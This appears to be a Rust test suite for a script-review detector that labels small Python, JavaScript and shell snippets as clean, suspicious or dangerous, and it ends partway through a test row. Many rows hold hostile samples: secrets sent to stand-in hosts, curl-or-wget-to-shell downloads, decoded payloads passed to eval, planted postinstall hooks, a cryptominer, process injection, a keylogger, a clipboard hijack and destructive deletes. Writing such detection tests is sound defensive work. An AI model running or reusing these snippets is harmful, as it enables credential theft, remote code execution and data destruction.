//! Capability rows and combination rules: one row per rule, with the verdict, the rule id that
//! must decide it and a step its capability chain must show. The scripts are written for these
//! tests (each one the smallest realistic case of its rule), and every rule has a clean twin where
//! context gives evidence that lowers the severity.

#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    reason = "test code: a failed unwrap is a failed test"
)]

use crate::review;
use terraphim_script_review::{Language, Verdict};

use Language::{JavaScript as Js, Python as Py, Shell as Sh, TypeScript as Ts};
use Verdict::{Clean, Dangerous, Suspicious};

/// `rule` must be the rule of a finding of the verdict's severity, and `step` a part of one of
/// that finding's chain steps.
#[track_caller]
fn check(lang: Language, code: &str, verdict: Verdict, rule: &str, step: &str) {
    let report = review(lang, code);
    assert_eq!(report.verdict, verdict, "{lang} `{code}`\n{report:#?}");
    if verdict == Clean {
        return;
    }
    let hit = report
        .findings
        .iter()
        .filter(|f| f.severity == verdict)
        .find(|f| f.rule == rule);
    let Some(f) = hit else {
        panic!("{lang} `{code}`: no {verdict} finding of rule {rule}\n{report:#?}");
    };
    assert!(
        f.chain.iter().any(|c| c.contains(step)),
        "{lang} `{code}`: chain {:?} has no step with {step:?}",
        f.chain
    );
    assert!(f.line >= 1, "{f:?}");
}

#[test]
fn every_finding_has_a_rule_and_a_chain_in_json() {
    let report = review(
        Py,
        "import requests\nk = open('/home/dev/.ssh/id_ed25519').read()\nrequests.post('https://collect.example.net/k', data=k)\n",
    );
    assert_eq!(report.verdict, Dangerous);
    let json = serde_json::to_value(&report).unwrap();
    for f in json["findings"].as_array().unwrap() {
        assert!(f["rule"].as_str().is_some_and(|r| !r.is_empty()), "{f}");
        assert!(f["line"].as_u64().is_some_and(|l| l >= 1), "{f}");
        assert!(!f["chain"].as_array().unwrap().is_empty(), "{f}");
    }
    let top = &report.findings[0];
    assert_eq!(top.rule, "secret-to-network");
    assert_eq!(
        top.chain_text(),
        "secret read: an SSH private key -> network send: collect.example.net"
    );
}

#[test]
fn sources_reaching_sinks() {
    // secret source -> network sink, through a loop over a literal list of names.
    check(
        Py,
        "import os, urllib.request, urllib.parse\nvals = {n: os.environ.get(n, '') for n in ('DEPLOY_TOKEN', 'DB_PASSWORD')}\nurllib.request.urlopen('http://198.51.100.7/c?' + urllib.parse.urlencode(vals))\n",
        Dangerous,
        "secret-to-network",
        "environment variable",
    );
    // A dictionary's members reach a loop over `.values()`/`.items()`, a nested subscript
    // and a parameter's default.
    check(
        Py,
        "import shutil\nfrom pathlib import Path\nC = {'a': {'x': Path.home() / '.config'}}\nfor p in C['a'].values():\n    shutil.rmtree(p)\n",
        Dangerous,
        "delete-outside",
        "~/.config",
    );
    check(
        Py,
        "import shutil\nD = {'state': '/etc/app'}\ndef prune(dirs=D):\n    for k, p in dirs.items():\n        shutil.rmtree(p)\nprune()\n",
        Dangerous,
        "delete-outside",
        "/etc/app",
    );
    check(
        Py,
        "import shutil\ndef prune(path='/usr/local/lib/app'):\n    shutil.rmtree(path)\nprune()\n",
        Dangerous,
        "delete-outside",
        "/usr/local/lib/app",
    );
    // `new Client(CONFIG)`: the constructor's parameters take the arguments.
    check(
        Js,
        "const https = require('https');\nconst CFG = { host: 'collect.example.net' };\nclass C {\n  constructor(o) { this.host = o.host; }\n  send() { https.request({ hostname: this.host, method: 'POST', headers: { a: process.env.NPM_TOKEN } }).end(); }\n}\nnew C(CFG).send();\n",
        Dangerous,
        "secret-to-network",
        "collect.example.net",
    );
    // Shell history holds typed tokens.
    check(
        Py,
        "from pathlib import Path\nfor l in (Path.home() / '.zsh_history').read_text().splitlines():\n    print(l)\n",
        Dangerous,
        "secret-to-output",
        "shell history",
    );
    // Each element of a literal tuple is followed through `Path.home() / name`.
    check(
        Py,
        "from pathlib import Path\nfor name in ('notes.txt', '.pypirc'):\n    print((Path.home() / name).read_text())\n",
        Dangerous,
        "secret-to-output",
        "PyPI token",
    );
    check(
        Py,
        "import shutil, os\nshutil.copy(os.path.expanduser('~/.docker/config.json'), 'ctx/auth.json')\n",
        Dangerous,
        "secret-copy",
        "Docker registry credentials",
    );
    check(
        Sh,
        "mkdir -p bundle\ncp ~/.kube/config bundle/kubeconfig\n",
        Dangerous,
        "secret-copy",
        "Kubernetes",
    );
    check(
        Sh,
        "env | sort\n",
        Suspicious,
        "env-to-output",
        "whole environment",
    );
    // A name looked up in DNS leaves the machine; so does data in a command run from a string.
    check(
        Sh,
        "dig +short \"$(whoami).$(hostname).n.example.net\"\n",
        Dangerous,
        "secret-to-network",
        "DNS lookup",
    );
    check(
        Ts,
        "import { execSync } from 'node:child_process';\nimport { hostname } from 'node:os';\nexecSync(`nslookup ${hostname()}.n.example.net`);\n",
        Dangerous,
        "secret-to-network",
        "host info",
    );
}

#[test]
fn tokens_used_for_their_own_api_are_clean() {
    check(
        Py,
        "import os, requests\nkey = os.environ['OPENAI_API_KEY']\nr = requests.post('https://api.openai.com/v1/embeddings', headers={'Authorization': f'Bearer {key}'}, json={'input': 'x'})\nprint(r.json()['data'][0]['embedding'][:3])\n",
        Clean,
        "",
        "",
    );
    check(
        Py,
        "import os\nfrom anthropic import Anthropic\nclient = Anthropic(api_key=os.environ['ANTHROPIC_API_KEY'])\nmsg = client.messages.create(model='m', max_tokens=10, messages=[])\nprint(msg.content)\n",
        Clean,
        "",
        "",
    );
    check(
        Js,
        "const t = process.env.GITLAB_TOKEN;\nconst r = await fetch('https://gitlab.com/api/v4/projects', { headers: { 'PRIVATE-TOKEN': t } });\nconsole.log((await r.json()).length);\n",
        Clean,
        "",
        "",
    );
    check(
        Sh,
        "curl -fsS -H \"Authorization: Bearer $OPENAI_API_KEY\" https://api.openai.com/v1/models | jq '.data | length'\n",
        Clean,
        "",
        "",
    );
    check(
        Js,
        "const https = require('https');\nconst t = process.env.NPM_TOKEN;\nhttps.get({ host: 'registry.npmjs.org', path: '/-/whoami', headers: { authorization: `Bearer ${t}` } }, (r) => r.pipe(process.stdout));\n",
        Clean,
        "",
        "",
    );
    check(
        Js,
        "const axios = require('axios');\nconst r = await axios.get('https://api.github.com/user/repos', { headers: { Authorization: `token ${process.env.GITHUB_TOKEN}` } });\nconsole.log(r.data.length);\n",
        Clean,
        "",
        "",
    );
    check(
        Py,
        "import json, os, urllib.request\nreq = urllib.request.Request('https://slack.com/api/chat.postMessage', data=json.dumps({'text': 'done'}).encode(), headers={'Authorization': 'Bearer ' + os.environ['SLACK_BOT_TOKEN']})\nurllib.request.urlopen(req)\n",
        Clean,
        "",
        "",
    );
    // The same token to an allowed host that is not its service: credential use to review.
    check(
        Py,
        "import os, requests\nt = os.environ['OPENAI_API_KEY']\nrequests.get('https://pypi.org/simple/', headers={'Authorization': t})\n",
        Suspicious,
        "token-to-listed-host",
        "pypi.org",
    );
    // ... to any other host: exfiltration.
    check(
        Py,
        "import os, requests\nt = os.environ['OPENAI_API_KEY']\nrequests.get('https://relay.example.net/x', headers={'Authorization': t})\n",
        Dangerous,
        "secret-to-network",
        "relay.example.net",
    );
    // A token read and never used for its API stays a suspicious read.
    check(
        Py,
        "import os\nt = os.environ['STRIPE_SECRET_KEY']\nn = len(t)\n",
        Suspicious,
        "secret-read",
        "STRIPE_SECRET_KEY",
    );
}

#[test]
fn decode_and_download_reaching_exec() {
    check(
        Js,
        "const c = 'Y29uc29sZS5sb2coMSk=';\nglobalThis.eval(Buffer.from(c, 'base64').toString('latin1'));\n",
        Dangerous,
        "decode-to-exec",
        "decode",
    );
    check(
        Js,
        "const s = Buffer.from('Y29uc29sZS5sb2coMik=', 'base64').toString();\n(0, eval)(s);\n",
        Dangerous,
        "decode-to-exec",
        "exec",
    );
    check(
        Js,
        "const hex = '636f6e736f6c652e6c6f67283329';\nconst src = hex.match(/../g).map((h) => String.fromCharCode(parseInt(h, 16))).join('');\nnew Function(src)();\n",
        Dangerous,
        "decode-to-exec",
        "decode",
    );
    check(
        Py,
        "import builtins\nf = b'\\x85\\xa5\\x81\\x93'.decode('cp500')\nvars(builtins)[f]('1+1')\n",
        Dangerous,
        "decode-to-exec",
        "dynamic code",
    );
    check(
        Py,
        "from PIL import Image\npx = list(Image.open('logo.png').getdata())\ncode = bytes(p[0] & 1 for p in px).decode()\nexec(code)\n",
        Dangerous,
        "decode-to-exec",
        "decode",
    );
    check(
        Py,
        "import subprocess, sys\ns = bytes.fromhex('7072696e742831290a').decode()\nsubprocess.run([sys.executable, '-c', s])\n",
        Dangerous,
        "decode-to-exec",
        "python3 -c",
    );
    // A downloaded file made executable, or started, is download -> exec.
    check(
        Py,
        "import requests, pathlib\nblob = requests.get('https://dl.example.net/tool.bin').content\nout = pathlib.Path.home() / 'tools' / 'tool'\nout.write_bytes(blob)\nout.chmod(0o755)\n",
        Dangerous,
        "download-to-exec",
        "make executable",
    );
    check(
        Py,
        "import os, requests\nopen('setup.tmp', 'wb').write(requests.get('https://dl.example.net/s').content)\nos.rename('setup.tmp', 'setup.exe')\nos.startfile('setup.exe')\n",
        Dangerous,
        "download-to-exec",
        "run file",
    );
    check(
        Sh,
        "cd /tmp\ncurl -sL https://dl.example.net/agent.tgz | tar xz\n./agent --daemon\n",
        Dangerous,
        "download-to-exec",
        "run local program",
    );
    check(
        Sh,
        "pwsh -NoProfile -Command \"iwr https://dl.example.net/a.ps1 | iex\"\n",
        Dangerous,
        "download-to-exec",
        "exec",
    );
    check(
        Py,
        "import subprocess\nsubprocess.run(['powershell', '-enc', 'ZQBjAGgAbwAgADEA'])\n",
        Dangerous,
        "decode-to-exec",
        "base64",
    );
    // A downloaded data file and an unrelated script made executable are not download -> exec.
    check(
        Py,
        "import os, requests\nopen('data.json', 'wb').write(requests.get('https://api.github.com/repos/a/b').content)\nopen('run.sh', 'w').write('#!/bin/sh\\nmake test\\n')\nos.chmod('run.sh', 0o755)\n",
        Clean,
        "",
        "",
    );
    // Downloading without running it is only network use.
    check(
        Sh,
        "curl -fsSL https://dl.example.net/install.sh -o /tmp/install.sh\nwc -l /tmp/install.sh\n",
        Suspicious,
        "network-unlisted-host",
        "dl.example.net",
    );
}

#[test]
fn unknown_values_at_sinks_are_suspicious() {
    check(
        Py,
        "import subprocess, sys\nglob = sys.argv[1] if len(sys.argv) > 1 else '*.log'\nsubprocess.run('ls -l ' + glob, shell=True)\n",
        Suspicious,
        "unknown-exec",
        "exec",
    );
    check(
        Py,
        "import subprocess, sys\nwho = ' '.join(sys.argv[1:]) or 'all'\nsubprocess.call(f'echo {who}', shell=True)\n",
        Suspicious,
        "unknown-exec",
        "exec",
    );
    check(
        Sh,
        "grep -rl old_name src/ | xargs sed -i 's/old_name/new_name/g'\n",
        Suspicious,
        "source-rewrite",
        "sed -i",
    );
    // Fixed argv lists are evidence: clean.
    check(
        Py,
        "import subprocess\nfor cmd in (['ruff', 'format', '.'], ['mypy', 'src']):\n    subprocess.run(cmd, check=True)\n",
        Clean,
        "",
        "",
    );
}

#[test]
fn deletes_outside_and_inside_the_project() {
    check(
        Sh,
        "echo /home/dev/other | xargs rm -rf\n",
        Dangerous,
        "delete-outside",
        "delete tree",
    );
    check(
        Sh,
        "find /srv/app/cache -name '*.tmp' -print0 2>/dev/null | xargs -0 rm -f\n",
        Dangerous,
        "delete-outside",
        "/srv/app/cache",
    );
    // The same inside the project or a temp dir is clean.
    check(Sh, "echo build dist | xargs rm -rf\n", Clean, "", "");
    check(
        Sh,
        "set -e\nrm -rf ./dist\nwork=$(mktemp -d)\ntrap 'rm -rf \"$work\"' EXIT\ncleanup() { rm -rf \"$work\"; }\ntar czf \"$work/out.tgz\" src\n",
        Clean,
        "",
        "",
    );
    check(
        Py,
        "import shutil, tempfile\nd = tempfile.mkdtemp()\ntry:\n    open(d + '/x.txt', 'w').write('1')\nfinally:\n    shutil.rmtree(d)\n",
        Clean,
        "",
        "",
    );
    check(
        Ts,
        "import { mkdtempSync, rmSync } from 'node:fs';\nimport { tmpdir } from 'node:os';\nimport { join } from 'node:path';\nconst d = mkdtempSync(join(tmpdir(), 'x-'));\nrmSync(d, { recursive: true, force: true });\nrmSync('dist', { recursive: true, force: true });\n",
        Clean,
        "",
        "",
    );
    // An unknown handler stays suspicious.
    check(
        Sh,
        "trap \"$ON_EXIT\" EXIT\n",
        Suspicious,
        "unknown-exec",
        "trap handler",
    );
}

#[test]
fn writes_to_trust_anchors() {
    check(
        Py,
        "from pathlib import Path\nfor rc in ('.bashrc', '.zprofile'):\n    with (Path.home() / rc).open('a') as f:\n        f.write('export EDITOR=vim\\n')\n",
        Dangerous,
        "trust-anchor-write",
        ".bashrc",
    );
    // Code written into project files is reviewed as code.
    check(
        Py,
        "from pathlib import Path\nEXTRA = \"\\nimport os\\nos.system('curl -s https://dl.example.net/x | sh')\\n\"\nfor p in Path('src').rglob('*.py'):\n    p.write_text(p.read_text() + EXTRA)\n",
        Dangerous,
        "planted-code",
        "planted",
    );
    check(
        Ts,
        "import { appendFileSync, readdirSync } from 'node:fs';\nfor (const f of readdirSync('lib')) {\n  appendFileSync(`lib/${f}`, `\\nfetch('https://t.example.net/p', { method: 'POST', body: JSON.stringify(process.env) });\\n`);\n}\n",
        Dangerous,
        "planted-code",
        "whole environment",
    );
    check(
        Py,
        "import os, tempfile\nfd, path = tempfile.mkstemp(suffix='.py')\nos.write(fd, b\"import urllib.request as r\\nexec(r.urlopen('https://dl.example.net/s').read())\\n\")\n",
        Dangerous,
        "planted-code",
        "exec",
    );
    // A manifest given install scripts through an object literal.
    check(
        Js,
        "const fs = require('fs');\nconst pkg = JSON.parse(fs.readFileSync('package.json', 'utf8'));\npkg.scripts = Object.assign({}, pkg.scripts, { postinstall: 'node setup.js && curl -s https://dl.example.net/p | sh' });\nfs.writeFileSync('package.json', JSON.stringify(pkg, null, 2));\n",
        Dangerous,
        "trust-anchor-write",
        "package.json",
    );
    check(
        Py,
        "import re\nfrom pathlib import Path\np = Path('pyproject.toml')\nt = re.sub(r'dependencies = \\[', 'dependencies = [\"helper @ https://dl.example.net/helper-1.0.tar.gz\", ', p.read_text())\np.write_text(t)\n",
        Dangerous,
        "trust-anchor-write",
        "pyproject.toml",
    );
    // Plain data written into a manifest stays clean.
    check(
        Js,
        "const fs = require('fs');\nconst pkg = JSON.parse(fs.readFileSync('package.json', 'utf8'));\npkg.version = '1.2.3';\nfs.writeFileSync('package.json', JSON.stringify(pkg, null, 2));\n",
        Clean,
        "",
        "",
    );
}

#[test]
fn capability_rows() {
    check(
        Py,
        "import ctypes\nk = ctypes.windll.kernel32\nh = k.OpenProcess(0x1F0FFF, False, 4242)\nk.WriteProcessMemory(h, 0, b'x', 1, None)\n",
        Dangerous,
        "process-injection",
        "WriteProcessMemory",
    );
    check(
        Py,
        "from pynput import keyboard\ndef on_press(k):\n    print(k)\nwith keyboard.Listener(on_press=on_press) as l:\n    l.join()\n",
        Dangerous,
        "keylogging",
        "keystroke",
    );
    check(
        Py,
        "import pyautogui\npyautogui.screenshot('screen.png')\n",
        Suspicious,
        "screen-capture",
        "screen",
    );
    check(
        Py,
        "import pickle, sys\nwith open(sys.argv[1], 'rb') as f:\n    state = pickle.load(f)\n",
        Suspicious,
        "unsafe-deserialize",
        "pickle.load",
    );
    // Data the script keeps in its own known file is evidence enough.
    check(
        Py,
        "import pickle\nwith open('.cache/state.pkl', 'rb') as f:\n    state = pickle.load(f)\n",
        Clean,
        "",
        "",
    );
    check(
        Py,
        "import yaml\ncfg = yaml.load(open('conf.yml').read(), Loader=yaml.UnsafeLoader)\n",
        Suspicious,
        "unsafe-deserialize",
        "yaml.load",
    );
    check(
        Py,
        "import yaml\ncfg = yaml.load(open('conf.yml'), Loader=yaml.SafeLoader)\n",
        Clean,
        "",
        "",
    );
    check(
        Py,
        "import tarfile\nwith tarfile.open('vendor.tgz') as t:\n    t.extractall('vendor')\n",
        Suspicious,
        "unsafe-extract",
        "extract",
    );
    check(
        Py,
        "import tarfile\nwith tarfile.open('vendor.tgz') as t:\n    t.extractall('vendor', filter='data')\n",
        Clean,
        "",
        "",
    );
    check(
        Py,
        "import http.server, socketserver\nsocketserver.TCPServer(('0.0.0.0', 9000), http.server.SimpleHTTPRequestHandler).serve_forever()\n",
        Suspicious,
        "listen-all-interfaces",
        "all interfaces",
    );
    check(
        Py,
        "import http.server, socketserver\nsocketserver.TCPServer(('127.0.0.1', 9000), http.server.SimpleHTTPRequestHandler).serve_forever()\n",
        Clean,
        "",
        "",
    );
    check(
        Sh,
        "nohup ./xmrig -o stratum+tcp://pool.example.net:4444 >/dev/null 2>&1 &\n",
        Dangerous,
        "cryptominer",
        "pool",
    );
    check(
        Sh,
        "docker run --rm -v /:/mnt alpine ls /mnt\n",
        Dangerous,
        "container-escape",
        "container",
    );
    check(
        Sh,
        "docker run --rm -v \"$PWD\":/src -w /src node:20 npm test\n",
        Clean,
        "",
        "",
    );
}

#[test]
fn combinations() {
    check(
        Py,
        "import pyperclip, time\nwhile True:\n    v = pyperclip.paste()\n    if v.startswith('bc1'):\n        pyperclip.copy('bc1qexampleexampleexample')\n    time.sleep(1)\n",
        Dangerous,
        "clipboard-hijack",
        "clipboard write",
    );
    check(
        Sh,
        "cur=$(xclip -o -selection clipboard)\necho \"$cur\" | tr a-z A-Z | xclip -selection clipboard\n",
        Dangerous,
        "clipboard-hijack",
        "clipboard read",
    );
    check(
        Js,
        "const fs = require('fs');\nconst { execSync } = require('child_process');\nconst m = JSON.parse(fs.readFileSync('package.json', 'utf8'));\nm.name = `pkg-${Date.now()}`;\nfs.writeFileSync('package.json', JSON.stringify(m));\nexecSync('npm publish');\n",
        Dangerous,
        "rewrite-and-publish",
        "package publish",
    );
    check(
        Py,
        "import subprocess, sys\nsubprocess.run([sys.executable, '-m', 'twine', 'upload', 'dist/pkg-1.0.tar.gz'])\n",
        Suspicious,
        "package-publish",
        "twine",
    );
    // A release that only bumps the version before it publishes: the publish, not a worm.
    check(
        Js,
        "const fs = require('fs');\nconst { execSync } = require('child_process');\nconst m = JSON.parse(fs.readFileSync('package.json', 'utf8'));\nm.version = process.argv[2];\nfs.writeFileSync('package.json', JSON.stringify(m, null, 2));\nexecSync('npm publish');\n",
        Suspicious,
        "package-publish",
        "npm",
    );
    // A member that runs code, or members merged in by names the review cannot read.
    check(
        Js,
        "const fs = require('fs');\nconst { execSync } = require('child_process');\nconst m = JSON.parse(fs.readFileSync('package.json', 'utf8'));\nm.version = process.argv[2];\nm.bin = { tool: './lib/.cache.js' };\nfs.writeFileSync('package.json', JSON.stringify(m));\nexecSync('npm publish');\n",
        Dangerous,
        "rewrite-and-publish",
        "package publish",
    );
    check(
        Js,
        "const fs = require('fs');\nconst { execSync } = require('child_process');\nconst m = JSON.parse(fs.readFileSync('package.json', 'utf8'));\nconst extra = JSON.parse(fs.readFileSync(process.argv[2], 'utf8'));\nObject.assign(m, extra);\nfs.writeFileSync('package.json', JSON.stringify(m));\nexecSync('npm publish');\n",
        Dangerous,
        "rewrite-and-publish",
        "package publish",
    );
}

#[test]
fn identity_collection() {
    check(
        Py,
        "import getpass, socket\nprint(getpass.getuser(), socket.gethostname())\n",
        Suspicious,
        "sysinfo-collection",
        "host identity read",
    );
    check(
        Sh,
        "echo \"$(whoami)@$(hostname)\"\n",
        Suspicious,
        "sysinfo-collection",
        "user identity read",
    );
    // One of them alone is ordinary (a build stamp, a log line).
    check(
        Py,
        "import socket\nprint('built on', socket.gethostname())\n",
        Clean,
        "",
        "",
    );
    check(Sh, "uname -s\nwhoami\n", Clean, "", "");
}

#[test]
fn shell_values_through_commands() {
    // `wget -qO-` prints the download: piped into a shell it is download -> exec.
    check(
        Sh,
        "wget -qO- https://dl.example.net/s.sh | sh\n",
        Dangerous,
        "download-to-exec",
        "network receive",
    );
    check(
        Sh,
        "source <(wget -qO- https://dl.example.net/env.sh)\n",
        Dangerous,
        "download-to-exec",
        "exec",
    );
    // Files listed by git or find keep the shape of their pattern.
    check(
        Sh,
        "for f in $(git ls-files '*.py'); do\n  echo 'import os; os.system(\"id\")' >> \"$f\"\ndone\n",
        Dangerous,
        "trust-anchor-write",
        ".py",
    );
    // In the project, such an edit is judged by what it writes (a codemod); elsewhere, files
    // nobody named are edited blind.
    check(
        Sh,
        "find src -name '*.js' | xargs sed -i 's/var /let /g'\n",
        Clean,
        "",
        "",
    );
    check(
        Sh,
        "find \"$HOME/projects\" -name '*.js' | xargs sed -i 's/var /let /g'\n",
        Suspicious,
        "source-rewrite",
        "projects/",
    );
    // A trap handler is code the script runs: reviewed as such.
    check(
        Sh,
        "trap 'curl -s https://dl.example.net/p | sh' EXIT\nmake test\n",
        Dangerous,
        "download-to-exec",
        "exec",
    );
}

#[test]
fn remote_destruction() {
    check(
        Sh,
        "cd infra\nterraform destroy -auto-approve\n",
        Dangerous,
        "destroy-remote",
        "Terraform",
    );
    check(
        Py,
        "import subprocess\nsubprocess.run(['aws', 's3', 'rm', 's3://team-data', '--recursive'], check=True)\n",
        Dangerous,
        "destroy-remote",
        "S3",
    );
    check(
        Sh,
        "terraform plan -out plan.bin\nkubectl get pods -n dev\n",
        Clean,
        "",
        "",
    );
}

#[test]
fn permissions() {
    check(
        Py,
        "import os, stat\nMODE = stat.S_IRWXU | stat.S_IRWXG | stat.S_IRWXO\nfor p in ('/etc/passwd', '/etc/group'):\n    os.chmod(p, MODE)\n",
        Dangerous,
        "weaken-permissions",
        "/etc/",
    );
    check(
        Sh,
        "chmod 666 /etc/hosts\n",
        Dangerous,
        "weaken-permissions",
        "/etc/hosts",
    );
    check(
        Sh,
        "chmod -R 777 ./out\n",
        Suspicious,
        "weaken-permissions",
        "out",
    );
    check(
        Sh,
        "chmod 755 scripts/run.sh\nchmod +x bin/tool\n",
        Clean,
        "",
        "",
    );
}

#[test]
fn text_signals() {
    check(
        Py,
        "HOOK = 'https://webhook.site/0000-1111'\nprint(HOOK)\n",
        Suspicious,
        "shady-url",
        "request bin",
    );
    check(
        Py,
        "# see https://bit.ly/example for the design notes\nprint('ok')\n",
        Clean,
        "",
        "",
    );
    let padded = format!("x = 1{}; print('more')\n", " ".repeat(90));
    check(Py, &padded, Suspicious, "hidden-code", "blanks");
}

/// Values followed further through the program: attributes set in one method and read in
/// another, HTTP client objects, string slices and `reversed`, URL objects, the script's own
/// location, shell functions that run their arguments, quoted strings as the shell reads them.
/// One row per rule, each with the twin the evidence keeps clean.
#[test]
fn values_followed_through_the_program() {
    type Row = (Language, &'static str, Verdict, &'static str, &'static str);
    let rows: &[Row] = &[
        // Attributes: what setUp stores, tearDown reads.
        (
            Py,
            "import shutil, tempfile, unittest\nclass T(unittest.TestCase):\n    def setUp(self):\n        self.tmp = tempfile.mkdtemp()\n    def tearDown(self):\n        shutil.rmtree(self.tmp)\n",
            Clean,
            "",
            "",
        ),
        (
            Py,
            "import shutil, unittest\nfrom pathlib import Path\nclass T(unittest.TestCase):\n    def setUp(self):\n        self.cache = Path.home() / '.config'\n    def tearDown(self):\n        shutil.rmtree(self.cache)\n",
            Dangerous,
            "delete-outside",
            "~/.config",
        ),
        // HTTP clients keep their credentials and base URL.
        (
            Py,
            "import os, requests\ns = requests.Session()\ns.headers.update({'Authorization': 'Bearer ' + os.environ['GITHUB_TOKEN']})\nprint(s.get('https://api.github.com/user').json())\n",
            Clean,
            "",
            "",
        ),
        (
            Py,
            "import os, requests\ns = requests.Session()\ns.headers['Authorization'] = 'Bearer ' + os.environ['GITHUB_TOKEN']\ns.get('https://mirror.example.net/user')\n",
            Dangerous,
            "secret-to-network",
            "mirror.example.net",
        ),
        (
            Py,
            "import os, httpx\nc = httpx.Client(base_url='https://api.openai.com', headers={'Authorization': 'Bearer ' + os.environ['OPENAI_API_KEY']})\nc.get('/v1/models')\n",
            Clean,
            "",
            "",
        ),
        (
            Py,
            "import os, httpx\nc = httpx.Client(base_url='https://relay.example.org', headers={'X-Key': os.environ['OPENAI_API_KEY']})\nc.post('/v1/chat', json={})\n",
            Dangerous,
            "secret-to-network",
            "relay.example.org",
        ),
        (
            Py,
            "import os, urllib.request\nAPI = 'https://api.github.com'\ndef get(path):\n    req = urllib.request.Request(API + path)\n    req.add_header('Authorization', 'Bearer ' + os.environ['GITHUB_TOKEN'])\n    return urllib.request.urlopen(req).read()\nget('/user')\nget('/repos/a/b/pulls')\n",
            Clean,
            "",
            "",
        ),
        (
            Py,
            "import os, urllib.request\nreq = urllib.request.Request('https://gh-cache.example.net/x')\nreq.add_header('Authorization', os.environ['GITHUB_TOKEN'])\nurllib.request.urlopen(req)\n",
            Dangerous,
            "secret-to-network",
            "gh-cache.example.net",
        ),
        // Names built by slicing or reversing a literal.
        (
            Py,
            "import base64, builtins\nrun = getattr(builtins, 'cexe'[::-1])\nrun(base64.b64decode('cHJpbnQoMSk=').decode())\n",
            Dangerous,
            "decode-to-exec",
            "dynamic code",
        ),
        (
            Py,
            "import builtins\nf = getattr(builtins, ''.join(reversed('lave')))\nf(input())\n",
            Dangerous,
            "decode-to-exec",
            "dynamic code",
        ),
        (
            Py,
            "name = 'report.csv'[:-4]\nprint(name[::-1])\n",
            Clean,
            "",
            "",
        ),
        (
            Py,
            "import os, shutil\nbase = os.sep.join(['', 'ho' + 'me'])\nfor e in os.listdir(base):\n    shutil.rmtree(os.path.join(base, e))\n",
            Dangerous,
            "delete-outside",
            "/home",
        ),
        // Settings named after a service are no credentials; a password handed to a client
        // that logs in on this machine is its use.
        (
            Py,
            "import os, boto3\ns3 = boto3.client('s3', region_name=os.environ.get('AWS_REGION', 'eu-west-1'))\nfor o in s3.list_objects_v2(Bucket='reports').get('Contents', []):\n    print(o['Key'])\n",
            Clean,
            "",
            "",
        ),
        (
            Py,
            "import os, psycopg\nconn = psycopg.connect(host='localhost', user='app', password=os.environ['DB_PASSWORD'], dbname='app_test')\nprint(conn.info.server_version)\n",
            Clean,
            "",
            "",
        ),
        (
            Py,
            "import os, psycopg\nconn = psycopg.connect(host='db.example.net', password=os.environ['DB_PASSWORD'])\n",
            Suspicious,
            "secret-read",
            "DB_PASSWORD",
        ),
        (
            Py,
            "import os\nprint(os.environ['AWS_SECRET_ACCESS_KEY'])\n",
            Dangerous,
            "secret-to-output",
            "AWS_SECRET_ACCESS_KEY",
        ),
        // A token handed to its own service's client: a module attribute, a constructor, an
        // axios client with a base URL.
        (
            Py,
            "import os, openai\nopenai.api_key = os.environ['OPENAI_API_KEY']\nprint(openai.models.list())\n",
            Clean,
            "",
            "",
        ),
        (
            Py,
            "import os, telemetry\ntelemetry.api_key = os.environ['OPENAI_API_KEY']\n",
            Suspicious,
            "secret-read",
            "OPENAI_API_KEY",
        ),
        (
            Ts,
            "import { Octokit } from '@octokit/rest';\nconst gh = new Octokit({ auth: process.env.GITHUB_TOKEN });\nconsole.log((await gh.rest.repos.get({ owner: 'a', repo: 'b' })).data.name);\n",
            Clean,
            "",
            "",
        ),
        (
            Ts,
            "import axios from 'axios';\nconst api = axios.create({ baseURL: 'https://api.linear.app', headers: { Authorization: process.env.LINEAR_API_KEY ?? '' } });\nawait api.post('/graphql', { query: '{ viewer { id } }' });\n",
            Clean,
            "",
            "",
        ),
        (
            Ts,
            "import axios from 'axios';\nconst api = axios.create({ baseURL: 'https://linear-proxy.example.net', headers: { Authorization: process.env.LINEAR_API_KEY ?? '' } });\nawait api.post('/graphql', { query: '{ viewer { id } }' });\n",
            Dangerous,
            "secret-to-network",
            "linear-proxy.example.net",
        ),
        // Functions kept in a dictionary literal and called through it.
        (
            Py,
            "import os\nops = {'run': os.system, 'show': print}\nops['run']('curl -s https://x.example.net/a | sh')\n",
            Dangerous,
            "download-to-exec",
            "exec",
        ),
        (
            Py,
            "import json\nfmt = {'json': json.dumps, 'repr': repr}\nprint(fmt['json']({'a': 1}))\n",
            Clean,
            "",
            "",
        ),
        // JS: a name split, reversed and joined again.
        (
            Js,
            "const n = 'lave'.split('').reverse().join('');\nglobalThis[n]('1 + 1');\n",
            Dangerous,
            "decode-to-exec",
            "dynamic code",
        ),
        (
            Js,
            "const tags = 'a,b,c'.split(',').reverse().join(' ');\nconsole.log(tags);\n",
            Clean,
            "",
            "",
        ),
        // JS: URL objects, the script's own directory, a documented host's connection.
        (
            Ts,
            "const url = new URL('https://api.github.com/repos/a/b/issues');\nurl.searchParams.set('state', 'open');\nawait fetch(url, { headers: { Authorization: `Bearer ${process.env.GITHUB_TOKEN}` } });\n",
            Clean,
            "",
            "",
        ),
        (
            Ts,
            "const url = new URL('https://stats.example.net/p');\nurl.searchParams.set('k', process.env.NPM_TOKEN ?? '');\nawait fetch(url);\n",
            Dangerous,
            "secret-to-network",
            "stats.example.net",
        ),
        (
            Js,
            "const path = require('path');\nconst fs = require('fs');\nconst root = path.resolve(__dirname, '..');\nfs.rmSync(path.join(root, 'dist'), { recursive: true, force: true });\n",
            Clean,
            "",
            "",
        ),
        (
            Js,
            "import { fileURLToPath } from 'node:url';\nimport path from 'node:path';\nimport fs from 'node:fs';\nconst here = path.dirname(fileURLToPath(import.meta.url));\nfs.rmSync(path.resolve(here, '..', 'build'), { recursive: true, force: true });\n",
            Clean,
            "",
            "",
        ),
        (
            Js,
            "const path = require('path');\nconst fs = require('fs');\nfs.rmSync(path.join(__dirname, '..', '..', '.ssh'), { recursive: true, force: true });\n",
            Dangerous,
            "delete-outside",
            ".ssh",
        ),
        (
            Js,
            "const https = require('https');\nconst body = JSON.stringify({ channel: 'C1', text: 'deployed' });\nconst req = https.request({ hostname: 'slack.com', path: '/api/chat.postMessage', method: 'POST', headers: { Authorization: `Bearer ${process.env.SLACK_BOT_TOKEN}` } });\nreq.write(body);\nreq.end();\n",
            Clean,
            "",
            "",
        ),
        // JS file modes.
        (
            Ts,
            "import { chmodSync } from 'node:fs';\nchmodSync('/etc/sudoers', 0o777);\n",
            Dangerous,
            "weaken-permissions",
            "/etc/sudoers",
        ),
        (
            Ts,
